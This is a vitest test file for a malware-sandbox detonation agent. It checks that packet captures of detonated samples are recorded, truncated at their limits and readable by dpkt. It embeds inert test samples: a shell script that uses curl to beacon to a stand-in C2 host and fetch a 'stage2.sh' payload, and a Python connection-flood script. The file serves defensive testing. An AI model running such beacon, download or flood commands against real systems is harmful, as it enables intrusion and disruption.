import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runDetonation } from '../../container/agent';
import { hostDetonator, selectDetonator } from '../../local/detonation/select';
import { detonateThrough } from '../redteam/harness';
import { FAST, PresignedStandIn } from './harness';

/**
 * The packet capture, end to end: a sample that makes HTTP requests is detonated by the host
 * detonator, and the pcap uploaded beside its report is read by dpkt (an independent reader, from
 * `.venv-pcap`, which `.ci/run` makes). CI requires the venv; elsewhere the dpkt test skips without it.
 */

const PYTHON = fileURLToPath(new URL('../../.venv-pcap/bin/python', import.meta.url));
const haveDpkt = existsSync(PYTHON);
const hostCanBox = Boolean(selectDetonator('host').detonator);

/** Reads a pcap with dpkt: every TCP payload that parses as an HTTP request, and every UDP packet's ports. */
const READER = `
import json, socket, struct, sys, dpkt
def csum(data):
    if len(data) % 2:
        data += b"\\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total > 0xffff:
        total = (total & 0xffff) + (total >> 16)
    return total
out = {"http": [], "tcp": [], "udp": [], "badChecksums": 0}
with open(sys.argv[1], "rb") as f:
    for ts, frame in dpkt.pcap.Reader(f):
        eth = dpkt.ethernet.Ethernet(frame)
        ip = eth.data
        v4 = isinstance(ip, dpkt.ip.IP)
        raw = frame[14:]
        header = (raw[0] & 15) * 4 if v4 else 40
        transport = raw[header:]
        proto = ip.p if v4 else ip.nxt
        # A correct Internet checksum sums, with the pseudo-header, to 0xffff.
        pseudo = ip.src + ip.dst + (struct.pack("!BBH", 0, proto, len(transport)) if v4 else struct.pack("!IxxxB", len(transport), proto))
        if (v4 and csum(raw[:header]) != 0xffff) or csum(pseudo + transport) != 0xffff:
            out["badChecksums"] += 1
        family = socket.AF_INET if v4 else socket.AF_INET6
        src = socket.inet_ntop(family, ip.src)
        dst = socket.inet_ntop(family, ip.dst)
        seg = ip.data
        if isinstance(seg, dpkt.tcp.TCP):
            out["tcp"].append([src, dst, seg.sport, seg.dport, seg.flags, len(seg.data)])
            if seg.data:
                try:
                    req = dpkt.http.Request(seg.data)
                    out["http"].append({"method": req.method, "uri": req.uri, "host": req.headers.get("host"), "dst": dst, "dport": seg.dport})
                except (dpkt.UnpackError, dpkt.NeedData):
                    pass
        elif isinstance(seg, dpkt.udp.UDP):
            out["udp"].append([src, dst, seg.sport, seg.dport, len(seg.data)])
print(json.dumps(out))
`;

const SAMPLE = Buffer.from(`#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: beacons over HTTP to a name and to a literal address. Inert: the fake
# resolver answers the name and every connection lands on the agent's fake network.
curl -s -m 5 -A 'SANDTRAP-TEST-MALICIOUS/1.0' http://c2.example.test/gate.php?id=7 >/dev/null
curl -s -m 5 http://203.0.113.10:8081/drop/stage2.sh >/dev/null
echo done
`);

interface Read {
  http: { method: string; uri: string; host: string; dst: string; dport: number }[];
  tcp: [string, string, number, number, number, number][];
  udp: [string, string, number, number, number][];
  badChecksums: number;
}

const s3 = new PresignedStandIn();
beforeAll(() => s3.start());
afterAll(() => s3.stop());

describe.runIf(hostCanBox)('the packet capture of a detonation', () => {
  it.runIf(haveDpkt || process.env.CI === 'true')(
    'opens in dpkt and holds the HTTP requests, addressed to where the sample sent them',
    async () => {
      expect(haveDpkt, '.venv-pcap with dpkt (made by .ci/run) is required in CI').toBe(true);
      const { report, capture } = await detonateThrough(hostDetonator, s3, { name: 'beacon.sh', body: SAMPLE });
      expect(report.status).toBe('completed');
      expect(report.capabilities.pcap).toBe('captured');
      expect(capture).toBeDefined();
      expect(report.capabilities.pcapFile).toMatchObject({ bytes: capture?.length, truncated: false });
      const dir = await mkdtemp(join(tmpdir(), 'sandtrap-pcap-'));
      try {
        const file = join(dir, 'capture.pcap');
        await writeFile(file, capture as Buffer);
        const read = JSON.parse(execFileSync(PYTHON, ['-c', READER, file], { encoding: 'utf8' })) as Read;
        expect(read.tcp.length + read.udp.length).toBe(report.capabilities.pcapFile?.packets);
        const byName = read.http.find((h) => h.uri === '/gate.php?id=7');
        expect(byName).toMatchObject({ method: 'GET', host: 'c2.example.test', dport: 80 });
        // The name resolved (by the fake resolver) to a 127.10.x.y address: that is where the sample connected.
        expect(byName?.dst).toMatch(/^127\.10\./);
        expect(read.http.find((h) => h.uri === '/drop/stage2.sh')).toMatchObject({
          method: 'GET',
          host: '203.0.113.10:8081',
          dst: '203.0.113.10',
          dport: 8081,
        });
        // The fake network's answer is there too, and the DNS question that came first.
        expect(
          read.tcp.some(([src, , sport, , , length]) => src === '203.0.113.10' && sport === 8081 && length > 0),
        ).toBe(true);
        expect(read.udp.some(([, , , dport]) => dport === 53)).toBe(true);
        expect(read.badChecksums).toBe(0);
      } finally {
        await rm(dir, { recursive: true, force: true });
      }
    },
    120_000,
  );
});

describe.runIf(process.getuid?.() === 0)('a sample that floods the fake network', () => {
  it('gets a capture held to its limits, marked truncated, that still reads', async () => {
    const flood = Buffer.from(`import socket
# SANDTRAP-TEST: floods the fake network (inert: every byte lands on the agent's own listener).
big = socket.create_connection(("flood.example.test", 9000), timeout=5)
chunk = b"F" * 65536
for _ in range(200):
    big.sendall(chunk)
big.close()
for i in range(2100):
    try:
        s = socket.create_connection(("10.9.%d.%d" % (i // 250, i % 250 + 1), 7000), timeout=2)
        s.sendall(b"x")
        s.close()
    except OSError:
        pass
print("flooded")
`);
    const { sampleUrl, reportUrl, pcapUrl } = s3.presign('flood', flood);
    const report = await runDetonation({
      sampleUrl,
      reportUrl,
      pcapUrl,
      sampleName: 'flood.py',
      config: { timeout: 60, idle_timeout: 8, trace_syscalls: false },
    });
    expect(report.output.tail).toContain('flooded');
    const capture = s3.captures.get('flood') as Buffer;
    expect(report.capabilities).toMatchObject({
      pcap: 'captured',
      pcapFile: { bytes: capture.length, truncated: true },
    });
    // 200 × 64 KiB sent on one connection: 256 KiB of it kept; 2,101 connections: 2,000 kept.
    expect(report.capabilities.pcapFile?.conversations).toBe(2000);
    expect(capture.length).toBeLessThan(16 * 1024 * 1024);
    expect(capture.indexOf('F'.repeat(1460))).toBeGreaterThan(0);
    expect(report.notes.items).toContain(
      'the packet capture reached its limits: later bytes, packets or conversations are not in it',
    );
    if (haveDpkt) {
      const dir = await mkdtemp(join(tmpdir(), 'sandtrap-pcap-'));
      try {
        await writeFile(join(dir, 'flood.pcap'), capture);
        const read = JSON.parse(
          execFileSync(PYTHON, ['-c', READER, join(dir, 'flood.pcap')], {
            encoding: 'utf8',
            maxBuffer: 64 * 1024 * 1024,
          }),
        ) as Read;
        expect(read.tcp.length + read.udp.length).toBe(report.capabilities.pcapFile?.packets);
        expect(read.badChecksums).toBe(0);
        const bulk = read.tcp.filter(([, , , dport, , length]) => dport === 9000 && length > 0);
        expect(bulk.reduce((sum, [, , , , , length]) => sum + length, 0)).toBe(256 * 1024);
      } finally {
        await rm(dir, { recursive: true, force: true });
      }
    }
  }, 180_000);
});

describe.runIf(process.getuid?.() === 0)('a capture that cannot be taken', () => {
  it('is reported unsupported, with the reason, when no upload URL is given', async () => {
    const { sampleUrl, reportUrl } = s3.presign('no-pcap-url', Buffer.from('#!/bin/sh\necho hi\n'));
    const report = await runDetonation({ sampleUrl, reportUrl, sampleName: 'hi.sh', config: FAST });
    expect(report.capabilities.pcap).toBe('unsupported');
    expect(report.capabilities.pcapReason).toMatch(/no upload URL/);
    expect(report.capabilities.pcapFile).toBeUndefined();
    expect(s3.captures.has('no-pcap-url')).toBe(false);
  });

  it('is disabled when pcap is off', async () => {
    const urls = s3.presign('pcap-off', Buffer.from('#!/bin/sh\necho hi\n'));
    const report = await runDetonation({
      ...urls,
      sampleName: 'hi.sh',
      config: { timeout: 10, idle_timeout: 4, pcap: false },
    });
    expect(report.capabilities.pcap).toBe('disabled');
    expect(s3.captures.has('pcap-off')).toBe(false);
  });
});
